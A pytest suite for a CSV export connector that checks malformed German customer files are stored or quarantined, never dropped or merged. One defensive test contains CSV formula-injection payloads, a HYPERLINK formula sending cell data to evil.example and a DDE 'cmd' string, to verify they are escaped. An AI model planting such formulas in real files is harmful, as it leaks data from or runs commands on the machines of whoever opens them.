"""Hostile CSV exports (issue 17): every physical record is stored or quarantined with its file, line
and reason — never dropped, never glued to another customer's row."""

from __future__ import annotations

import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectors.flat_files import CsvFolderConnector
from sources.legacy import LegacyCsvSystem

HEADER = ";".join(
    ["KDNR", "ART", "NACHNAME", "VORNAME", "FIRMA", "EMAIL", "STRASSE", "PLZ", "ORT", "LAND", "TELEFON"]
    + ["GEBDAT", "STEUERNR", "GEAENDERT", "BEMERKUNG"]
)
COLUMNS = HEADER.count(";") + 1


@pytest.fixture
def csv_system(tmp_path, make_config, credentials_of):
    system = LegacyCsvSystem(tmp_path)

    def pull(text: str, **options) -> tuple[list[str], dict[str | None, str]]:
        system.export_dir.mkdir(parents=True, exist_ok=True)
        (system.export_dir / "customers_2026-12-05.csv").write_bytes(text.encode("utf-8"))
        config = make_config("legacy_csv", "csv", 500, **options)
        connector = CsvFolderConnector(config, credentials_of(system.connection(None)))
        pages = list(connector.pull(None))
        stored = [r.source_id for p in pages for r in p.records]
        quarantined = {q.source_id: q.reason for p in pages for q in p.quarantined}
        return stored, quarantined

    return pull


def _row(i: int, name: str = "Weber", street: str = "Hauptstr. 1") -> str:
    fields = [f"K-{i:04d}", "PRIV", name, "Anna", "", f"a{i}@example.de", street, "10115", "Berlin", "DE",
              "", "", "", "", ""]  # fmt: skip
    return ";".join(fields)


def _file(rows: list[str]) -> str:
    return "\r\n".join([HEADER, *rows]) + "\r\n"


def test_a_literal_quote_inside_a_field_is_a_letter(csv_system):
    rows = [_row(i) for i in range(60)]
    rows[3] = _row(3, name='O"BRIEN')
    rows[10] = _row(10, street='Hauptstr. 5" APT')
    stored, quarantined = csv_system(_file(rows))
    assert len(stored) + len(quarantined) == 60
    assert stored[3] == "K-0003" and "K-0010" in stored


def test_a_quote_closed_rows_later_glues_nobody_together(csv_system):
    rows = [_row(i) for i in range(12)]
    rows[2] = _row(2, name='"Weber')  # opened ...
    rows[7] = _row(7, name='Weber"')  # ... and "closed" five rows later: no field spans customers' rows
    stored, quarantined = csv_system(_file(rows))
    assert set(stored) | set(quarantined) == {f"K-{i:04d}" for i in range(12)}
    assert "runs into the rows after it" in quarantined["K-0002"]


def test_an_unclosed_quote_costs_its_own_line_only(csv_system):
    rows = [_row(i) for i in range(15)]
    rows[4] = _row(4, name='"never closed')
    stored, quarantined = csv_system(_file(rows))
    assert set(quarantined) == {"K-0004"} and "line 6" in quarantined["K-0004"]
    assert stored == [f"K-{i:04d}" for i in range(15) if i != 4]


def test_a_field_over_the_line_limit_quarantines_that_row_and_the_file_goes_on(csv_system):
    rows = [_row(i) for i in range(5)]
    rows[1] = _row(1, street="x" * 200_000)  # over the csv module's 128 KiB field limit too
    stored, quarantined = csv_system(_file(rows), max_line_bytes=100_000)
    assert stored == ["K-0000", "K-0002", "K-0003", "K-0004"]
    assert "longer than 100000 bytes" in quarantined["K-0001"]
    stored, quarantined = csv_system(_file(rows))  # under the default limit: a long street is data
    assert "K-0001" in stored or "K-0001" in quarantined


def test_duplicate_headers_are_refused_with_a_reason(csv_system):
    text = _file([_row(1)]).replace("EMAIL", "NACHNAME", 1)
    stored, quarantined = csv_system(text)
    assert stored == [] and any("duplicate column names NACHNAME" in r for r in quarantined.values())


# ---------------------------------------------------------------------------------- property test

_plain = st.text(alphabet=st.characters(blacklist_characters='";\r\n\x00', blacklist_categories=("Cs",)),
                 max_size=12)  # fmt: skip
_quoted = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12
)
_field = st.one_of(
    _plain,
    _plain.map(lambda t: f'{t}"{t}'.replace("\r", "").replace("\n", "")),  # a literal quote inside
    _quoted.map(lambda t: '"' + t.replace('"', '""') + '"'),  # properly quoted: ; "" and newlines
)
_hostile_last = st.one_of(_field, _plain.map(lambda t: f'"{t}'))  # an unclosed quote, on one line


@st.composite
def _hostile_file(draw: st.DrawFn) -> tuple[str, list[str]]:
    n = draw(st.integers(min_value=1, max_value=12))
    ids, rows = [], []
    for i in range(n):
        ids.append(f"R{i}")
        middle = [draw(_field) for _ in range(COLUMNS - 2)]
        rows.append(";".join([f"R{i}", *middle, draw(_hostile_last)]))
        if draw(st.booleans()) and draw(st.booleans()):
            rows.append("")  # blank lines are no records
    newline = draw(st.sampled_from(["\r\n", "\n"]))
    return newline.join([HEADER, *rows]) + newline, ids


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_hostile_file())
def test_stored_plus_quarantined_is_every_row_written(make_config, credentials_of, tmp_path, case):
    text, ids = case
    connector = CsvFolderConnector(
        make_config("legacy_csv", "csv", 50), credentials_of(LegacyCsvSystem(tmp_path).connection(None))
    )
    handle = io.BytesIO(text.encode("utf-8"))
    header, header_lines = connector._read_header(handle)
    assert isinstance(header, list) and len(header) == COLUMNS
    connector.expected_fields = len(header)
    records = list(connector._records(handle, header_lines))
    assert all((r.fields is None) != (r.error is None) for r in records)  # stored, or quarantined with why
    # every physical line with content after the header is in exactly one record (a blank line holds
    # nothing: one between rows is in none, one inside a quote that never closes may be in none)
    def filled(chunk: str) -> list[str]:
        return [line for line in chunk.splitlines() if line.strip()]

    assert [line for r in records for line in filled(r.text)] == filled(text)[1:], records
    # each customer's row starts a record of its own: nothing dropped, nothing glued to another row
    starts = [r.text.split(";", 1)[0] for r in records]
    assert all(starts.count(i) == 1 for i in ids), records
    assert [s for s in starts if s in ids] == ids


def test_files_the_hub_writes_are_formula_safe(tmp_path) -> None:
    import polars as pl

    from matching import match_frame
    from schemas.csv_safe import safe_cell

    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    assert safe_cell(evil) == "'" + evil and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("-2+3+cmd|' /C calc'!A0").startswith("'")
    assert safe_cell("+4930123456") == "+4930123456"  # a phone number is a number, not a formula
    frame = pl.DataFrame(
        {"source_system": ["erp", "erp"], "source_id": [evil, "2"], "full_name": ["Anna Weber", "Anna Weber"]}
    )
    clusters, _ = match_frame(frame).write(tmp_path)
    assert f"erp,'{evil}" in clusters.read_text(encoding="utf-8").replace('""', '"').replace("\"'", "'")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_a_utf16_or_utf32_export_with_its_byte_order_mark_is_read(
    tmp_path, make_config, credentials_of, encoding
):
    import codecs

    system = LegacyCsvSystem(tmp_path)
    system.export_dir.mkdir(parents=True, exist_ok=True)
    rows = [_row(i, name="Müller" if i % 2 else "Иванов") for i in range(10)]
    body = _file(rows).encode(encoding)
    if encoding == "utf-16-be":
        body = codecs.BOM_UTF16_BE + body
    (system.export_dir / "customers_2026-12-05.csv").write_bytes(body)
    connector = CsvFolderConnector(
        make_config("legacy_csv", "csv", 4), credentials_of(system.connection(None))
    )
    pages = list(connector.pull(None))
    records = [r for p in pages for r in p.records]
    assert [r.source_id for r in records] == [f"K-{i:04d}" for i in range(10)]
    assert records[1].family_name == "Müller" and records[0].family_name == "Иванов"
    assert not [q for p in pages for q in p.quarantined]
    # the cursor of a page in the middle resumes the file where it stopped
    rest = list(connector.pull(pages[0].cursor))
    assert [r.source_id for p in rest for r in p.records] == [f"K-{i:04d}" for i in range(4, 10)]
